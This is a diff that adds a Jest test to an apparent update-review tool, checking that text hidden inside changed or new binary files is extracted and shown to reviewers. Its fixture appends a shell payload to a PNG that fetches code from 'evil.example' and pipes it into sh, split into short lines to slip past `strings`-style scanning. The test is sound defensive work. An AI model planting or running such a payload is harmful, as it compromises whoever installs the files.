@@ -432,3 +432,22 @@ describe('file diff: one enormous line is cut, saying so', () => {
     expect(full).not.toContain('NOT SHOWN');
   });
 });
+
+describe('file diff: text inside a binary file is shown', () => {
+  it('shows the text a changed binary file holds that the locked one does not (a shell payload after an image), and all of it for a new one', () => {
+    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]), Buffer.alloc(300, 7), Buffer.from('Created with an image editor', 'latin1'), Buffer.alloc(8, 0)]);
+    // Short lines, each below any minimum a `strings` would use, run as one script by sh.
+    const payload = '\nc=curl\nu=evil.example/x\n$c $u|sh\n';
+    const d = diffFiles(files({ 'assets/logo.png': png }), files({ 'assets/logo.png': Buffer.concat([png, Buffer.from(payload)]), 'assets/new.png': Buffer.concat([png, Buffer.from(payload)]) }));
+    const changed = d.changed[0];
+    expect(changed?.binary).toBe(true);
+    expect(changed?.strings).toEqual(['c=curl', 'u=evil.example/x', '$c $u|sh']);
+    expect(d.added[0]?.strings).toEqual(['Created with an image editor', 'c=curl', 'u=evil.example/x', '$c $u|sh']);
+    const text = renderUpdateReview(model(d));
+    expect(text).toContain('  assets/logo.png: binary file changed, not shown; text in it the locked version\'s does not hold (3 lines):\n  | c=curl\n  | u=evil.example/x\n  | $c $u|sh\n');
+    expect(text.slice(text.indexOf('End of diffs.'))).toContain('  binary:       2 files hold new text, shown above: assets/new.png, assets/logo.png\n');
+    // A binary file whose text did not change shows none.
+    const same = diffFiles(files({ 'assets/logo.png': png }), files({ 'assets/logo.png': Buffer.concat([png, Buffer.from([1, 2, 3])]) }));
+    expect(same.changed[0]?.strings).toBeUndefined();
+  });
+});
